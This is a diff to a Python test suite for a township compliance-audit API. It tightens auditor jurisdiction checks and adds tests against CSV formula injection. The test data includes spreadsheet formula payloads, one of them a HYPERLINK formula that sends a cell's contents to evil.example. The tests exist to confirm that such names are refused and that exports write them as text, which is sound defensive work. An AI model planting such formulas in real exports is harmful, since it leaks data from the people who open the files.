@@ -25,6 +25,7 @@ from sqlmodel import select
 
 from api.main import create_app
 from api.routes.compliance import COLUMNS, build_report, report_clock
+from api.spreadsheet import csv_bytes
 from api.tokens import issue_token
 from domain.calendar import SHANGHAI, WorkingCalendar, WorkingDayIndex, YearCalendar
 from domain.cases import (
@@ -61,7 +62,7 @@ from store import reserve
 from store.calendar import publish_year
 from store.compliance import application_facts, emergency_facts, reserve_facts
 from store.db import session_scope
-from store.tables import CaseRecord, EmergencyRecord
+from store.tables import CaseRecord, EmergencyRecord, TownshipRow
 from tests.support import APPROVER, ASSISTANT, COORDINATOR, OFFICER, id_number, serve
 from tests.test_application_workflow import start_case, survey, wait_for_stage
 from tests.test_emergency_workflow import request, until
@@ -655,12 +656,10 @@ async def test_a_seeded_set_of_cases_is_reported_number_by_number_in_json_and_cs
                 params={"from": "2031-03-01", "to": "2031-04-30"},
                 headers={"Accept": "text/csv"},
             )
-        async with httpx.AsyncClient(
-            base_url=url, headers=bearer(settings, replace(AUDITOR, jurisdiction=B))
-        ) as http:
             only_b = (
                 await http.get(
-                    "/audit/compliance", params={"from": "2031-03-01", "to": "2031-04-30"}
+                    "/audit/compliance",
+                    params={"from": "2031-03-01", "to": "2031-04-30", "township": B},
                 )
             ).json()
 
@@ -881,23 +880,22 @@ async def test_each_reader_sees_their_jurisdiction_and_others_are_refused(settin
     assert decided(await get(AUDITOR)) == {A: 2, B: 1}
     for role in (Role.supervisor, Role.district_officer, Role.admin):
         assert decided(await get(replace(AUDITOR, role=role))) == {A: 2, B: 1}
-    of_b = await get(replace(AUDITOR, jurisdiction=B))
+    of_b = await get(AUDITOR, township=B)
     assert decided(of_b) == {B: 1}
     assert [r["township"] for r in of_b.json()["reserves"]] == [B]
-    of_a_village = await get(replace(AUDITOR, jurisdiction=f"{A}001"))
-    assert decided(of_a_village) == {A: 1}
-    assert of_a_village.json()["reserves"] == []  # a reserve is the township's
-    assert decided(await get(replace(AUDITOR, jurisdiction=f"{A}001"), township=A)) == {A: 1}
-    assert decided(await get(AUDITOR, township=B)) == {B: 1}
     assert decided(await get(AUDITOR, assistance_type="tekun")) == {}
     only = (await get(AUDITOR, kind="emergency")).json()
     assert only["applications"] is None and only["emergencies"]["rows"] == []
     only = (await get(AUDITOR, kind="application")).json()
     assert only["emergencies"] is None and only["reserves"] is None
 
-    assert (await get(replace(AUDITOR, jurisdiction=B), township=A)).status_code == 404
-    for role in (Role.township_assistant, Role.village_coordinator, Role.township_approver):
-        assert (await get(replace(AUDITOR, role=role, jurisdiction=A))).status_code == 403
+    # The report is the district's: an auditor's account of a township is refused (its level).
+    township_auditor = await get(replace(AUDITOR, jurisdiction=B), township=B)
+    assert township_auditor.status_code == 403
+    assert "works for the district" in township_auditor.json()["detail"]
+    for role, code in ((Role.township_assistant, A), (Role.township_approver, A),
+                       (Role.village_coordinator, f"{A}001")):  # fmt: skip
+        assert (await get(replace(AUDITOR, role=role, jurisdiction=code))).status_code == 403
     assert (await get(None)).status_code == 401
 
     for params, field in (
@@ -1027,3 +1025,76 @@ def test_the_store_reads_shanghai_dates_and_the_daily_ledger_on_each_database(
     assert (fire.paid_on_time, fire.hours_to_payment_median, fire.follow_ups_on_time) == (1, 1.5, 1)
     below = {r.township: r.dates_below_minimum for r in report.reserves if r.dates_below_minimum}
     assert below == {B: [D(2031, 3, 4), D(2031, 3, 5)]}  # it began 03-05 below, for a minute
+
+
+# ---- no cell a spreadsheet would run (CSV injection) -----------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&B3,"金山镇")',
+    "+SUM(1,1)",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "　=1+1",  # an ideographic space before it
+]
+
+
+async def test_a_name_a_spreadsheet_would_run_is_refused_and_one_from_before_is_written_as_text(
+    api_settings, settings
+):
+    fresh = api_settings.model_copy(update={"database_url": settings.database_url})
+    codes = [f"{DISTRICT}{200 + n}" for n in range(len(FORMULAS))]
+    with session_scope(fresh.database_url, writes=True) as session:
+        # Named before the rule: in the database as they were typed.
+        for code, name in zip(codes, FORMULAS, strict=True):
+            session.add(TownshipRow(code=code, name=name, area="rural"))
+            reserve.open_reserve(session, township=code, at=datetime.now(UTC))
+    admin = replace(AUDITOR, user_id="u-admin", role=Role.admin)
+    year = datetime.now(UTC).year
+    with serve(create_app(fresh)) as url:
+        async with httpx.AsyncClient(base_url=url, headers=bearer(fresh, admin)) as http:
+            for name in FORMULAS:
+                township = {"name": name, "area": "rural", "villages": []}
+                refused = await http.put(f"/townships/{codes[0]}", json=township)
+                assert refused.status_code == 422, (name, refused.text)
+                [problem] = refused.json()["detail"]
+                assert problem["loc"] == ["body", "name"] and "formula" in problem["msg"]
+                village = {"code": f"{codes[0]}001", "name": name}
+                township = {"name": "金山镇", "area": "rural", "villages": [village]}
+                refused = await http.put(f"/townships/{codes[0]}", json=township)
+                assert refused.status_code == 422, (name, refused.text)
+                [problem] = refused.json()["detail"]
+                assert problem["loc"] == ["body", "villages", 0, "name"]
+            exported = await http.get(
+                "/audit/compliance",
+                params={"from": f"{year}-01-01", "to": f"{year}-12-31"},
+                headers={"Accept": "text/csv"},
+            )
+            renamed = await http.put(f"/townships/{codes[0]}", json=township | {"villages": []})
+            assert renamed.status_code == 200 and renamed.json()["name"] == "金山镇"
+    assert exported.status_code == 200
+    lines = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    reserves = {
+        line["township [镇街代码]"]: line for line in lines if line["record [类别]"] == "reserve"
+    }
+    # Each hostile name is text to a spreadsheet; the numbers beside it are still numbers.
+    assert {code: reserves[code]["township_name [镇街]"] for code in codes} == {
+        code: "'" + name for code, name in zip(codes, FORMULAS, strict=True)
+    }
+    assert {reserves[code]["reserve_minimum [储备金下限]"] for code in codes} == {"50000.00"}
+    assert reserves["370305001"]["township_name [镇街]"] == "闻韶街道"
+
+
+def test_the_one_csv_writer_keeps_numbers_numbers_and_every_formula_text():
+    values = [-3, Decimal("-1500.00"), 2.5, "-3", "+2", "-1500.00", None, "闻韶街道"]
+    values += ["=1+1", "-3+A1", "-", "a;=1+1", 'say "=1+1"', "\n=1+1", " @SUM(A1)"]
+    written = csv_bytes(["value"], [{"value": v} for v in values])
+    assert written.startswith(b'\xef\xbb\xbf"value"\r\n')
+    read = [row["value"] for row in csv.DictReader(io.StringIO(written.decode("utf-8-sig")))]
+    assert read == [
+        *("-3", "-1500.00", "2.5", "-3", "+2", "-1500.00", "", "闻韶街道"),
+        *("'=1+1", "'-3+A1", "'-", "a;=1+1", 'say "=1+1"', "'\n=1+1", "' @SUM(A1)"),
+    ]
+    # Every cell quoted: a separator of another locale (;) never starts a cell.
+    assert b'"a;=1+1"' in written
